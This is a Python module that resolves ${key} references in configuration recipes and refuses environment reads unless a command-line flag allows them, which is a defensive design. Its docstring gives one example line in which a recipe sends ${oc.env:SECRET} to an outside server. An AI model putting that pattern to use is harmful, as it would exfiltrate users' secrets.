"""`${key}` in a recipe: the value of another key of the same configuration; nothing else is ever
evaluated.

A recipe may be a stranger's, and `data: http://his.server/${oc.env:SECRET}` would send him whatever
the environment holds. So only `${oc.env:NAME}` exists besides, and only where the command line
allows it. `$${` is `${` itself.
"""

import os
import re
from collections.abc import Iterator
from typing import Any

from seer.config.layers import Scalar, Tree
from seer.errors import InputError
from seer.schema import shown

MARK = re.compile(r"\$\$\{|\$\{([^{}]*)\}|\$\{")
KEY = re.compile(r"[A-Za-z_][\w-]*(\.[A-Za-z_0-9][\w-]*)*")
VARIABLE = re.compile(r"oc\.env:([A-Za-z_]\w*)(?:,(.*))?", re.DOTALL)
LONGEST = 2**16  # characters that a text may have with its references replaced
DEEPEST = 16  # references to references


class References:
    """The references within one configuration.

    Args:
        tree: what its files and the command line say.
        defaults: texts of keys that they say nothing about.
        allow_env: whether the command line allows the environment to be read.
    """

    def __init__(self, tree: dict[str, Tree], defaults: Any = None, allow_env: bool = False):
        self.tree = tree
        self.defaults = defaults
        self.allow_env = allow_env
        self._texts: dict[
            str, str
        ] = {}  # of keys that were referred to: what is asked for twice is made once
        self._open: list[str] = []

    def text_of(self, scalar: Scalar, key: str) -> str:
        """The text of a scalar under `key`, its references replaced. Raises `InputError` where one
        leads nowhere.
        """
        if scalar.given or "${" not in scalar.text:
            return scalar.text
        length = 0
        parts = []
        for part in self._parts(scalar.text, key):
            length += len(part)
            if length > LONGEST:
                raise InputError(
                    f"{key}: longer than {LONGEST:,} characters with its references replaced"
                )
            parts.append(part)
        return "".join(parts)

    def _parts(self, text: str, key: str) -> Iterator[str]:
        done = 0
        for mark in MARK.finditer(text):
            yield text[done : mark.start()]
            yield "${" if mark[0] == "$${" else self._value(mark[1] or "", key)
            done = mark.end()
        yield text[done:]

    def _value(self, name: str, key: str) -> str:
        variable = VARIABLE.fullmatch(name)
        if variable and self.allow_env:
            return _environment(variable[1], variable[2], key)
        if ":" in name:
            refused = f"{key}: {shown('${' + name + '}')} is not evaluated: a recipe reads nothing of this machine"
            raise InputError(f"{refused}; --allow-env lets it read variables by ${{oc.env:NAME}}")
        if not KEY.fullmatch(name):
            raise InputError(
                f"{key}: '${{' begins a reference to another key, as in ${{name}}; write $${{ for itself"
            )
        if name not in self._texts:
            self._texts[name] = self._follow(name, key)
        return self._texts[name]

    def _follow(self, name: str, key: str) -> str:
        if name in self._open or len(self._open) == DEEPEST:
            raise InputError(
                f"{key}: its reference to {shown(name)} leads back to itself, or too far"
            )
        self._open.append(name)
        try:
            return self.text_of(self._target(name, key), name)
        finally:
            self._open.pop()

    def _target(self, name: str, key: str) -> Scalar:
        tree: Any = self.tree
        default: Any = self.defaults
        for part in name.split("."):
            tree = tree.get(part) if isinstance(tree, dict) else None
            default = (
                default.get(part) if isinstance(default, dict) else getattr(default, part, None)
            )
        if isinstance(tree, Scalar):
            return tree
        if tree is None and isinstance(default, str | int | float):
            return Scalar(str(default))
        if tree is not None:
            raise InputError(f"{key}: it refers to {shown(name)}, which is not a single value")
        raise InputError(
            f"{key}: it refers to {shown(name)}, which is no key that has a value; '$${{' is '${{' itself"
        )


def escaped(values: Any) -> Any:
    """Plain values as a file has them: `${` within a text is no reference there."""
    if isinstance(values, dict):
        return {name: escaped(value) for name, value in values.items()}
    if isinstance(values, list | tuple):
        return [escaped(value) for value in values]
    return values.replace("${", "$${") if isinstance(values, str) else values


def _environment(name: str, default: str | None, key: str) -> str:
    value = os.environ.get(name, default)
    if value is None:
        raise InputError(
            f"{key}: the environment has no variable {name}; set it, or give {key}= on the command line"
        )
    return value
